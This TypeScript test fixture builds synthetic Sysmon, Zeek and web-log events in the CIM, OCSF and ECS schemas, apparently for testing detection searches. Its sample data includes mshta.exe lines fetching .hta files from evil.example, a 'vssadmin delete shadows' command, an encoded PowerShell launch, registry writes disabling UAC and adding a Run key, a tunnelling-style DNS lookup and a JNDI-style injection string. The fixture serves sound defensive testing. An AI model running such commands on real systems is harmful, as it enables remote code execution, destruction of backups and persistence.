/** One fact as three schemas write it down. Texts of CIM are what Splunk's add-ons make of such an event. */
export interface Fact {
  /** The data set and its fields; undefined: what no data set of CIM has. */
  readonly cim: { readonly dataset: string; readonly fields: Readonly<Record<string, unknown>> } | undefined;
  readonly ocsf: { readonly table: string; readonly event: Readonly<Record<string, unknown>> };
  readonly ecs: Readonly<Record<string, unknown>>;
}

const start = 1_699_990_000;
const iso = (seconds: number): string => new Date(seconds * 1000).toISOString();
const product = { product: { name: 'Sysmon', vendor_name: 'Microsoft' }, event_code: '1' };

interface ProcessFact {
  readonly at: number;
  readonly host: string;
  readonly user: string;
  readonly name: string;
  readonly folder: string;
  readonly line: string;
  readonly pid: number;
  readonly parent: { readonly name: string; readonly line: string; readonly pid: number };
  readonly original?: string;
  readonly level?: readonly [number, string];
}

function launched(fact: ProcessFact): Fact {
  const { at, host, user, name, folder, line, pid, parent, original, level } = fact;
  const guid = (n: number): string => `{0000-${n}}`;
  const process = {
    pid,
    uid: guid(pid),
    name: name.replace('.exe', ''),
    cmd_line: line,
    file: {
      name,
      path: `${folder}${name}`,
      internal_name: original ?? null,
      hashes: [
        { algorithm_id: 1, value: `md5-${pid}` },
        { algorithm_id: 3, value: `sha-${pid}` },
      ],
    },
    user: { name: user, uid: `S-1-${user}` },
    integrity_id: level?.[0] ?? null,
    working_directory: 'C:\\',
    parent_process: {
      pid: parent.pid,
      uid: guid(parent.pid),
      cmd_line: parent.line,
      file: { name: parent.name, path: `C:\\Windows\\${parent.name}` },
      user: { name: user },
    },
  };
  return {
    cim: {
      dataset: 'Endpoint.Processes',
      fields: {
        _time: start + at,
        action: 'allowed',
        dest: host,
        user,
        process: line,
        process_name: name,
        process_path: `${folder}${name}`,
        process_id: String(pid),
        process_guid: guid(pid),
        process_hash: [`md5-${pid}`, `sha-${pid}`],
        process_current_directory: 'C:\\',
        ...(original === undefined ? {} : { original_file_name: original }),
        ...(level === undefined ? {} : { process_integrity_level: level[1] }),
        parent_process: parent.line,
        parent_process_name: parent.name,
        parent_process_id: String(parent.pid),
        parent_process_guid: guid(parent.pid),
        parent_process_path: `C:\\Windows\\${parent.name}`,
      },
    },
    ocsf: {
      table: 'process_activity',
      event: {
        class_uid: 1007,
        activity_id: 1,
        time: (start + at) * 1000,
        device: { hostname: host, os: { name: 'Windows' } },
        process,
        metadata: product,
      },
    },
    ecs: {
      '@timestamp': iso(start + at),
      event: { category: ['process'], type: ['start'], module: 'sysmon' },
      host: { name: host, os: { name: 'Windows' } },
      user: { name: user, id: `S-1-${user}` },
      process: {
        pid,
        entity_id: guid(pid),
        name,
        executable: `${folder}${name}`,
        command_line: line,
        working_directory: 'C:\\',
        hash: { md5: `md5-${pid}`, sha256: `sha-${pid}` },
        pe: { original_file_name: original ?? null },
        parent: {
          pid: parent.pid,
          entity_id: guid(parent.pid),
          name: parent.name,
          executable: `C:\\Windows\\${parent.name}`,
          command_line: parent.line,
        },
      },
    },
  };
}

/** What ends is no launch, in no schema. */
function ended(fact: ProcessFact): Fact {
  const { ocsf, ecs } = launched(fact);
  return {
    cim: undefined,
    ocsf: { ...ocsf, event: { ...ocsf.event, activity_id: 2 } },
    ecs: { ...ecs, event: { category: ['process'], type: ['end'], module: 'sysmon' } },
  };
}

const explorer = { name: 'explorer.exe', line: 'C:\\Windows\\explorer.exe', pid: 10 };
const word = { name: 'WINWORD.EXE', line: '"C:\\Office\\WINWORD.EXE" /n "o\'brien.docx"', pid: 11 };
const system = 'C:\\Windows\\System32\\';

const processes: readonly Fact[] = [
  launched({
    at: 0,
    host: 'ws1',
    user: 'amy',
    name: 'mshta.exe',
    folder: system,
    line: 'mshta.exe HTTPS://evil.example/a.hta',
    pid: 100,
    parent: word,
    original: 'MSHTA.EXE',
    level: [3, 'medium'],
  }),
  launched({
    at: 5,
    host: 'ws1',
    user: 'amy',
    name: 'mshta.exe',
    folder: system,
    line: 'mshta.exe https://evil.example/b.hta',
    pid: 101,
    parent: word,
    original: 'MSHTA.EXE',
    level: [4, 'high'],
  }),
  launched({
    at: 60,
    host: 'ws2',
    user: 'bob',
    name: 'notes.exe',
    folder: 'C:\\Temp\\',
    line: 'notes.exe http://x.example',
    pid: 102,
    parent: explorer,
    original: 'mshta.exe',
  }),
  launched({
    at: 65,
    host: 'ws2',
    user: 'svc$',
    name: 'vssadmin.exe',
    folder: system,
    line: 'vssadmin  delete shadows /all /quiet',
    pid: 103,
    parent: explorer,
    level: [5, 'system'],
  }),
  launched({
    at: 4000,
    host: 'ws3',
    user: 'cleo',
    name: 'powershell.exe',
    folder: system,
    line: 'powershell -EncodedCommand SQBFAFgA',
    pid: 104,
    parent: { ...explorer, name: 'cmd.exe', line: 'cmd /c run' },
    original: 'PowerShell.EXE',
  }),
  ended({
    at: 6,
    host: 'ws1',
    user: 'amy',
    name: 'mshta.exe',
    folder: system,
    line: 'mshta.exe https://evil.example/b.hta',
    pid: 101,
    parent: word,
  }),
];

function valueSet(
  at: number,
  host: string,
  key: string,
  name: string,
  data: { text: string; type: [number, string]; cim: string },
  activity: readonly [number, string, string],
): Fact {
  const hive = key.slice(0, key.indexOf('\\'));
  return {
    cim: {
      dataset: 'Endpoint.Registry',
      fields: {
        _time: start + at,
        action: activity[1],
        dest: host,
        user: 'amy',
        process_guid: '{0000-7}',
        process_id: '7',
        process_name: 'reg.exe',
        registry_path: `${key}\\${name}`,
        registry_key_name: key.slice(key.lastIndexOf('\\') + 1),
        registry_value_name: name,
        registry_value_data: data.cim,
        registry_value_type: data.type[1],
      },
    },
    ocsf: {
      table: 'registry_value_activity',
      event: {
        class_uid: 201002,
        activity_id: activity[0],
        status_id: 1,
        time: (start + at) * 1000,
        device: { hostname: host },
        actor: {
          user: { name: 'amy' },
          process: {
            pid: 7,
            uid: '{0000-7}',
            cmd_line: 'reg add',
            file: { name: 'reg.exe', path: `${system}reg.exe` },
          },
        },
        reg_value: { name, path: key, data: data.text, type_id: data.type[0] },
        metadata: product,
      },
    },
    ecs: {
      '@timestamp': iso(start + at),
      event: { category: ['registry'], type: [activity[2]], module: 'sysmon' },
      host: { name: host },
      user: { name: 'amy' },
      process: {
        pid: 7,
        entity_id: '{0000-7}',
        name: 'reg.exe',
        command_line: 'reg add',
        executable: `${system}reg.exe`,
      },
      registry: {
        hive,
        key: key.slice(hive.length + 1),
        path: `${key}\\${name}`,
        value: name,
        data: { type: data.type[1], strings: [data.text] },
      },
    },
  };
}

const dword = (text: string, cim: string): { text: string; type: [number, string]; cim: string } => ({
  text,
  type: [2, 'REG_DWORD'],
  cim,
});
const policies = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System';

const registry: readonly Fact[] = [
  valueSet(10, 'ws1', policies, 'EnableLUA', dword('0', '0x00000000'), [2, 'modified', 'change']),
  valueSet(11, 'ws1', policies, 'DisableRegistryTools', dword('1', '0x00000001'), [3, 'modified', 'change']),
  valueSet(12, 'ws2', `${policies}\\Audit`, 'Level', dword('4294967295', '0xffffffff'), [4, 'deleted', 'deletion']),
  valueSet(13, 'ws2', 'HKCU\\Software\\Run', 'up', { text: '1', type: [10, 'REG_SZ'], cim: '1' }, [
    2,
    'modified',
    'change',
  ]),
  {
    cim: {
      dataset: 'Endpoint.Registry',
      fields: {
        _time: start + 14,
        action: 'created',
        dest: 'ws2',
        user: 'bob',
        process_guid: '{0000-8}',
        process_id: '8',
        process_name: 'reg.exe',
        registry_path: 'HKLM\\SOFTWARE\\evil',
        registry_key_name: 'evil',
      },
    },
    ocsf: {
      table: 'registry_key_activity',
      event: {
        class_uid: 201001,
        activity_id: 1,
        status_id: 1,
        time: (start + 14) * 1000,
        device: { hostname: 'ws2' },
        actor: {
          user: { name: 'bob' },
          process: {
            pid: 8,
            uid: '{0000-8}',
            cmd_line: 'reg add',
            file: { name: 'reg.exe', path: `${system}reg.exe` },
          },
        },
        reg_key: { path: 'HKLM\\SOFTWARE\\evil' },
        metadata: product,
      },
    },
    ecs: {
      '@timestamp': iso(start + 14),
      event: { category: ['registry'], type: ['creation'], module: 'sysmon' },
      host: { name: 'ws2' },
      user: { name: 'bob' },
      process: {
        pid: 8,
        entity_id: '{0000-8}',
        name: 'reg.exe',
        command_line: 'reg add',
        executable: `${system}reg.exe`,
      },
      registry: { hive: 'HKLM', key: 'SOFTWARE\\evil', path: 'HKLM\\SOFTWARE\\evil' },
    },
  },
];

function file(at: number, name: string, activity: readonly [number, string, string]): Fact {
  const path = `C:\\Users\\Public\\${name}`;
  const created = start - 500;
  return {
    cim: {
      dataset: 'Endpoint.Filesystem',
      fields: {
        _time: start + at,
        action: activity[1],
        dest: 'ws1',
        user: 'amy',
        file_name: name,
        file_path: path,
        file_create_time: created,
        file_size: 2048,
        file_hash: [`h-${name}`],
        process_guid: '{0000-9}',
        process_id: '9',
      },
    },
    ocsf: {
      table: 'file_activity',
      event: {
        class_uid: 1001,
        activity_id: activity[0],
        time: (start + at) * 1000,
        device: { hostname: 'ws1' },
        actor: { user: { name: 'amy' }, process: { pid: 9, uid: '{0000-9}' } },
        file: {
          name,
          path,
          created_time: created * 1000,
          size: 2048,
          hashes: [{ algorithm_id: 3, value: `h-${name}` }],
        },
        metadata: product,
      },
    },
    ecs: {
      '@timestamp': iso(start + at),
      event: { category: ['file'], type: [activity[2]], module: 'sysmon' },
      host: { name: 'ws1' },
      user: { name: 'amy' },
      process: { pid: 9, entity_id: '{0000-9}' },
      file: { name, path, created: iso(created), size: 2048, hash: { sha256: `h-${name}` } },
    },
  };
}

const files: readonly Fact[] = [
  file(20, 'drop.exe', [1, 'created', 'creation']),
  file(21, 'readme.TXT', [3, 'modified', 'change']),
  file(22, 'gone.exe', [4, 'deleted', 'deletion']),
];

function connection(
  at: number,
  src: string,
  dest: string,
  port: number,
  action: readonly [number, string, string],
  app: string,
  bytes: readonly [number, number],
): Fact {
  return {
    cim: {
      dataset: 'Network_Traffic.All_Traffic',
      fields: {
        _time: start + at,
        action: action[1],
        app,
        src,
        src_ip: src,
        src_port: 50000,
        dest,
        dest_ip: dest,
        dest_port: port,
        transport: 'tcp',
        bytes_in: bytes[0],
        bytes_out: bytes[1],
        bytes: bytes[0] + bytes[1],
        user: 'amy',
        process_id: '9',
        direction: 'outbound',
      },
    },
    ocsf: {
      table: 'network_activity',
      event: {
        class_uid: 4001,
        activity_id: 6,
        action_id: action[0],
        time: (start + at) * 1000,
        app_name: app,
        src_endpoint: { ip: src, port: 50000 },
        dst_endpoint: { ip: dest, port },
        connection_info: { protocol_name: 'TCP', direction_id: 2 },
        traffic: { bytes_in: bytes[0], bytes_out: bytes[1], bytes: bytes[0] + bytes[1] },
        actor: { user: { name: 'amy' }, process: { pid: 9 } },
        metadata: product,
      },
    },
    ecs: {
      '@timestamp': iso(start + at),
      event: {
        category: ['network'],
        type: action[2] === 'denied' ? ['connection', 'denied'] : ['connection', 'start'],
        module: 'zeek',
      },
      source: { ip: src, port: 50000, bytes: bytes[1] },
      destination: { ip: dest, port, bytes: bytes[0] },
      network: { transport: 'tcp', protocol: app, direction: 'egress', bytes: bytes[0] + bytes[1] },
      user: { name: 'amy' },
      process: { pid: 9 },
    },
  };
}

const traffic: readonly Fact[] = [
  connection(30, '10.0.0.5', '203.0.113.9', 3389, [1, 'allowed', 'start'], 'rdp', [100, 5000]),
  connection(31, '10.0.0.5', '203.0.113.10', 3389, [2, 'blocked', 'denied'], 'rdp', [0, 60]),
  connection(32, '10.0.0.6', '10.1.2.3', 445, [1, 'allowed', 'start'], 'smb', [7000, 300]),
];

function logon(at: number, user: string, src: string, outcome: readonly [number, string]): Fact {
  return {
    cim: {
      dataset: 'Authentication.Authentication',
      fields: {
        _time: start + at,
        action: outcome[1],
        app: 'Sysmon',
        src,
        dest: 'dc1',
        user,
        user_id: `S-1-${user}`,
        signature_id: '1',
        reason: 'INVALID_CREDENTIALS',
      },
    },
    ocsf: {
      table: 'authentication',
      event: {
        class_uid: 3002,
        activity_id: 1,
        status_id: outcome[0],
        status_detail: 'INVALID_CREDENTIALS',
        time: (start + at) * 1000,
        src_endpoint: { ip: src },
        dst_endpoint: { hostname: 'dc1' },
        user: { name: user, uid: `S-1-${user}` },
        metadata: product,
      },
    },
    ecs: {
      '@timestamp': iso(start + at),
      event: {
        category: ['authentication'],
        type: ['start'],
        outcome: outcome[1],
        module: 'Sysmon',
        code: '1',
        reason: 'INVALID_CREDENTIALS',
      },
      source: { ip: src },
      host: { name: 'dc1' },
      user: { name: user, id: `S-1-${user}` },
    },
  };
}

const logons: readonly Fact[] = [
  logon(40, 'amy', '10.0.0.5', [2, 'failure']),
  logon(41, 'amy', '10.0.0.5', [2, 'failure']),
  logon(42, 'bob', '10.0.0.5', [2, 'failure']),
  logon(43, 'amy', '10.0.0.5', [1, 'success']),
  logon(44, 'ws1$', '10.0.0.7', [1, 'success']),
  // The end of a session.
  {
    cim: undefined,
    ocsf: {
      table: 'authentication',
      event: { ...logon(45, 'amy', '10.0.0.5', [2, 'failure']).ocsf.event, activity_id: 2 },
    },
    ecs: {
      ...logon(45, 'amy', '10.0.0.5', [2, 'failure']).ecs,
      event: { category: ['authentication'], type: ['end'], outcome: 'failure', module: 'Sysmon' },
    },
  },
];

function lookup(
  at: number,
  name: string,
  type: string,
  answers: readonly string[],
  code: readonly [number, string, string],
): Fact {
  return {
    cim: {
      dataset: 'Network_Resolution.DNS',
      fields: {
        _time: start + at,
        message_type: 'Response',
        query: name,
        record_type: type,
        ...(answers.length === 0 ? {} : { answer: answers }),
        reply_code: code[1],
        src: '10.0.0.5',
        dest: '10.0.0.53',
      },
    },
    ocsf: {
      table: 'dns_activity',
      event: {
        class_uid: 4003,
        activity_id: 2,
        time: (start + at) * 1000,
        query: { hostname: name, type },
        answers: answers.map((rdata) => ({ rdata, ttl: 60 })),
        rcode_id: code[0],
        src_endpoint: { ip: '10.0.0.5' },
        dst_endpoint: { ip: '10.0.0.53' },
        metadata: product,
      },
    },
    ecs: {
      '@timestamp': iso(start + at),
      event: { category: ['network'], type: ['protocol'], module: 'zeek' },
      network: { protocol: 'dns', transport: 'udp' },
      source: { ip: '10.0.0.5' },
      destination: { ip: '10.0.0.53' },
      dns: {
        type: 'answer',
        question: { name, type },
        answers: answers.map((data) => ({ data, ttl: 60 })),
        response_code: code[2],
      },
    },
  };
}

const lookups: readonly Fact[] = [
  lookup(50, 'a.example', 'A', ['192.0.2.1', '192.0.2.2'], [0, 'No Error', 'NOERROR']),
  lookup(51, `${'x'.repeat(60)}.evil.example`, 'TXT', ['payload'], [0, 'No Error', 'NOERROR']),
  lookup(52, 'gone.example', 'A', [], [3, 'Non-Existent Domain', 'NXDOMAIN']),
];

function request(at: number, method: string, path: string, status: number, agent: string): Fact {
  const url = `http://shop.example${path}`;
  return {
    cim: {
      dataset: 'Web.Web',
      fields: {
        _time: start + at,
        action: 'allowed',
        src: '198.51.100.7',
        dest: '10.0.0.80',
        dest_port: 80,
        http_method: method,
        http_user_agent: agent,
        status,
        url,
        uri_path: path,
      },
    },
    ocsf: {
      table: 'http_activity',
      event: {
        class_uid: 4002,
        activity_id: 3,
        action_id: 1,
        time: (start + at) * 1000,
        http_request: {
          http_method: method,
          user_agent: agent,
          url: { url_string: url, path, hostname: 'shop.example' },
        },
        http_response: { code: status },
        src_endpoint: { ip: '198.51.100.7' },
        dst_endpoint: { ip: '10.0.0.80', port: 80 },
        metadata: product,
      },
    },
    ecs: {
      '@timestamp': iso(start + at),
      event: { category: ['web'], type: ['access'], module: 'nginx' },
      source: { ip: '198.51.100.7' },
      destination: { ip: '10.0.0.80', port: 80 },
      http: { request: { method }, response: { status_code: status } },
      url: { full: url, path, domain: 'shop.example' },
      user_agent: { original: agent },
    },
  };
}

const requests: readonly Fact[] = [
  request(60, 'POST', '/login;jsessionid={jndi:ldap}', 200, 'curl/8'),
  request(61, 'GET', '/', 404, '-'),
];

export const facts: readonly Fact[] = [
  ...processes,
  ...registry,
  ...files,
  ...traffic,
  ...logons,
  ...lookups,
  ...requests,
];

/** The moment at which the searches run: two hours after the first fact. */
export const now = start + 7200;
